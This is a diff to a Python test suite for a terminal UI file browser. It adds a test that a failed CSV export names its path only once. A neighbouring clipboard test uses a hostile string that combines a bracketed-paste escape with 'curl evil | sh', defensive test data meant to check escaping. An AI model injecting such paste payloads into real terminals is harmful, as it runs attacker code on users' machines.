@@ -368,6 +368,24 @@ async def test_export_toast_names_the_absolute_path_then_copy_rows_as_csv(
         assert all(line.isprintable() for line in lines)
 
 
+async def test_a_failed_export_names_its_file_once(medium: str, s3_client: Any) -> None:
+    """A file that can't be made is said in one line that names it once: the toast read
+    '/proc/x.csv: /proc/x.csv: No such file or directory', the path twice, before."""
+    target = "/proc/flowtui-cannot-write-here.csv"  # /proc makes no files, root or not
+    app = FlowtuiApp(medium, client=s3_client)
+    async with app.run_test(size=(100, 30)) as pilot:
+        await loaded(pilot, app)
+        await press(pilot, "w")
+        app.main_screen.prompt.input.value = target
+        await press(pilot, "enter")
+        await wait_for(pilot, lambda: any(n.title == "Export failed"
+                                          for n in app._notifications),
+                       timeout=20, what="export refused")
+        message = next(n.message for n in app._notifications if n.title == "Export failed")
+        assert message.startswith(f"{target}: ") and message.count(target) == 1, message
+        assert "\n" not in message and not os.path.exists(target)
+
+
 def test_clipboard_csv_escapes_what_could_end_a_bracketed_paste() -> None:
     hostile = "x\x1b[201~\ncurl evil | sh\r\x9b31m\u202eabc"
     copied, count = view_csv([{"note": hostile, "n": 1}, {"note": None, "n": 2}],
